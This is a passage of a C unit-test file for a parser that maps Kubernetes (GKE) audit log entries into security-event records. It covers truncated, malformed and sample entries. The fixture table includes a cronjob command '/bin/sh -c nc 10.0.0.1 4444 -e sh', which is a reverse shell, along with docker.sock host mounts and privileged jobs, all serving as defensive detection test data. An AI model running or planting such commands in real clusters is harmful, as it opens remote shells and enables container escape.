    struct mapped mapped = map_cut_entry("{'protoPayload':{'authenticationInfo':{'principalEmail':'eve'},'methodName':'io.k8s.batch.v1.cronjobs.create',"
                                         "'request':{'spec':{'jobTemplate':{'spec':{'template':{'spec':{'containers':[{'image':'kali','comm", cut);
    assert_label(&mapped, "image", "kali");
    assert_label(&mapped, "object_state", "truncated");
    assert_label(&mapped, "grpc_code", "");
    assert_field(&mapped, "network.http.method", "POST");
    assert_int_equal(udm_record_int(&mapped.record, "network.http.response_code"), 0);
    assert_knowledge(&mapped, UDM_ORIGIN_VERB, UDM_KNOWN);
    assert_knowledge(&mapped, UDM_ORIGIN_USER, UDM_KNOWN);
    assert_knowledge(&mapped, UDM_ORIGIN_URL, UDM_UNKNOWN);
    assert_knowledge(&mapped, UDM_ORIGIN_OBJECT_REF, UDM_UNKNOWN);
    assert_knowledge(&mapped, UDM_ORIGIN_EVENT, UDM_UNKNOWN);
    unmap(&mapped);
    mapped = map_cut_entry("{'protoPayload':{'request':{'@type':'core.k8s.io/v1.Pod'", cut);
    assert_label(&mapped, "object_state", "truncated");
    unmap(&mapped);
}

static void test_half_of_a_name_is_none(void **state)
{
    (void)state;
    const struct udm_cut cut = {.transport = true};
    struct mapped mapped = map_cut_entry("{'protoPayload':{'methodName':'io.k8s.core.v1.pods.list','resourceName':'core/v1/namespaces/n/po", cut);
    assert_field(&mapped, "target.url", "");
    assert_label(&mapped, "resource", "");
    assert_label(&mapped, "verb", "list");
    assert_label(&mapped, "user_kind", "");
    assert_knowledge(&mapped, UDM_ORIGIN_URL, UDM_UNKNOWN);
    unmap(&mapped);
    mapped = map_cut_entry("{'protoPayload':{'resourceName':'core/v1/nodes','authenticationInfo':{'principalEmail':'system:serv", cut);
    assert_field(&mapped, "principal.user.userid", "");
    assert_label(&mapped, "user_kind", "");
    assert_field(&mapped, "target.url", "/api/v1/nodes");
    assert_knowledge(&mapped, UDM_ORIGIN_USER, UDM_UNKNOWN);
    unmap(&mapped);
    mapped = map_cut_entry("{'protoPayload':{'status':{'code':1", cut);
    assert_label(&mapped, "grpc_code", "");
    unmap(&mapped);
    mapped = map_cut_entry("{'protoPayload':{'response':{'kind':'Status','code':20", cut);
    assert_label(&mapped, "code", "");
    unmap(&mapped);
    mapped = map_cut_entry("{'protoPayload':{'status':{'message':'x'},'methodName':'x.li", cut);
    assert_label(&mapped, "grpc_code", "0");
    assert_label(&mapped, "verb", "");
    unmap(&mapped);
}

static void test_an_object_over_a_bound_is_unknown(void **state)
{
    (void)state;
    struct mapped mapped = map_cut_entry("{'protoPayload':{" CREATE ",'request':{" POD_SPEC "}}}", (struct udm_cut){.request_object = true});
    assert_label(&mapped, "image", "alpine");
    assert_label(&mapped, "overflow", "true");
    assert_label(&mapped, "object_state", "truncated");
    assert_label(&mapped, "grpc_code", "0");
    assert_knowledge(&mapped, UDM_ORIGIN_REQUEST_OBJECT, UDM_UNKNOWN);
    unmap(&mapped);
}

static void test_an_entry_of_wrong_types_is_mapped_as_far_as_it_goes(void **state)
{
    (void)state;
    static const char *const entries[] = {
        "[]", "{'protoPayload':[]}", "{'protoPayload':{'methodName':1,'resourceName':{},'authenticationInfo':[],'authorizationInfo':{},'status':[],"
        "'request':5,'response':[],'requestMetadata':'x'},'labels':[],'resource':[],'operation':'x','timestamp':{}}",
        "{'protoPayload':{'authorizationInfo':[5,[],null],'authenticationInfo':{'serviceAccountDelegationInfo':[5,{}]}},'labels':{'a':5}}",
        "{'protoPayload':{'methodName':'.','resourceName':'/'}}", "{'protoPayload':{'methodName':'...','resourceName':'////////////'}}",
    };
    for (size_t i = 0; i < COUNT(entries); i++) {
        struct mapped mapped = map_entry(entries[i]);
        assert_label(&mapped, "object_state", "missing");
        unmap(&mapped);
    }
}

static void test_samples_give_their_labels(void **state)
{
    (void)state;
    static const struct { const char *sample, *label, *expected; } rows[] = {
        {"cronjob-create", "image", "alpine:latest"},
        {"cronjob-create", "code", "200"},
        {"cronjob-denied", "code", "403"},
        {"cronjob-denied", "decision", "forbid"},
        {"cronjob-denied", "object_state", "rejected"},
        {"cronjob-denied", "response_reason", "Forbidden"},
        {"cronjob-dry-run", "dry_run", "All"},
        {"cronjob-dry-run", "host_path", "true"},
        {"cronjob-dry-run", "host_path_value", "/var/run/docker.sock"},
        {"cronjob-patch-json", "image", "alpine:latest"},
        {"cronjob-patch-json", "command", "/bin/sh -c nc 10.0.0.1 4444 -e sh"},
        {"cronjob-patch-json", "patch_type", "json"},
        {"cronjob-patch-json", "response.image", "alpine:latest"},
        {"cronjob-patch-merge", "image", "alpine:latest"},
        {"cronjob-patch-merge", "patch_type", "merge"},
        {"job-kube-system", "privileged", "true"},
        {"job-kube-system", "user_kind", "serviceaccount"},
        {"cronjob-benign", "user_kind", "user"},
        {"cronjob-benign", "object_state", "present"},
    };
    for (size_t i = 0; i < COUNT(rows); i++) {
        struct mapped mapped = map_sample(rows[i].sample);
        assert_label(&mapped, rows[i].label, rows[i].expected);
        unmap(&mapped);
    }
}

static void test_only_labels_that_are_asked_for_are_made_of_objects(void **state)
{
    (void)state;
    struct udm_label_filter *filter = udm_label_filter_new();
    struct mapped mapped = read_text(SLICE("{\"protoPayload\":{\"methodName\":\"io.k8s.core.v1.pods.create\",\"request\":{\"spec\":{\"hostPID\":true}},"
                                           "\"response\":{\"kind\":\"Pod\",\"spec\":{\"hostPID\":true}}}}"));
    mapped.record.label_filter = filter;
    udm_gke_record(&mapped.record, &(struct udm_source){0}, mapped.tree, &(struct udm_cut){0});
    assert_label(&mapped, "host_pid", "");
    assert_label(&mapped, "response.host_pid", "");
    assert_label(&mapped, "kind", "Pod");
    assert_label(&mapped, "verb", "create");
    udm_label_filter_free(filter);
    unmap(&mapped);
}

static void test_own_labels_are_paths_from_the_entrys_root(void **state)
{
    (void)state;
    struct udm_own_labels *labels = udm_own_labels_new();
    const char *wrong;
    assert_int_equal(udm_own_labels_add(labels, SLICE("team"), SLICE("protoPayload.request.metadata.labels.team"), &wrong), RESULT_OK);
    assert_int_equal(udm_own_labels_add(labels, SLICE("grpc_code"), SLICE("a"), &wrong), RESULT_INVALID);
    struct mapped mapped = read_text(SLICE("{\"protoPayload\":{\"request\":{\"metadata\":{\"labels\":{\"team\":\"blue\"}}}}}"));
    udm_gke_record(&mapped.record, &(struct udm_source){.own_labels = labels}, mapped.tree, &(struct udm_cut){0});
    assert_label(&mapped, "team", "blue");
    udm_own_labels_free(labels);
    unmap(&mapped);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_fields_of_an_entry),
        cmocka_unit_test(test_labels_of_an_entry),
        cmocka_unit_test(test_additional_fields_hold_what_has_no_field_of_its_own),
        cmocka_unit_test(test_a_record_of_an_entry_can_be_written),
        cmocka_unit_test(test_subject_delegation_and_permissions_are_lists_of_labels),
        cmocka_unit_test(test_all_names_of_the_log_type_are_there),
        cmocka_unit_test(test_times_have_nanoseconds_a_blank_for_the_t_and_no_zone),
        cmocka_unit_test(test_a_resource_name_tells_the_object_and_the_path),
        cmocka_unit_test(test_a_name_and_uid_that_the_resource_name_lacks_are_the_answers),
        cmocka_unit_test(test_users_are_taken_whole_and_told_apart),
        cmocka_unit_test(test_an_address_is_taken_in_either_spelling_and_once),
        cmocka_unit_test(test_codes_of_grpc_stand_for_statuses_of_http),
        cmocka_unit_test(test_a_decision_comes_from_the_labels_else_from_all_authorizations),
        cmocka_unit_test(test_a_decision_that_broke_off_is_none),
        cmocka_unit_test(test_only_a_write_to_an_object_is_a_dry_run),
        cmocka_unit_test(test_bodies_are_read_like_those_of_audit_events),
        cmocka_unit_test(test_a_patch_is_merged_or_an_array_of_operations),
        cmocka_unit_test(test_what_an_entry_does_not_show_is_unknown),
        cmocka_unit_test(test_an_entry_that_breaks_off_is_mapped_as_far_as_it_goes),
        cmocka_unit_test(test_half_of_a_name_is_none),
        cmocka_unit_test(test_an_object_over_a_bound_is_unknown),
        cmocka_unit_test(test_an_entry_of_wrong_types_is_mapped_as_far_as_it_goes),
        cmocka_unit_test(test_samples_give_their_labels),
        cmocka_unit_test(test_only_labels_that_are_asked_for_are_made_of_objects),
        cmocka_unit_test(test_own_labels_are_paths_from_the_entrys_root),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
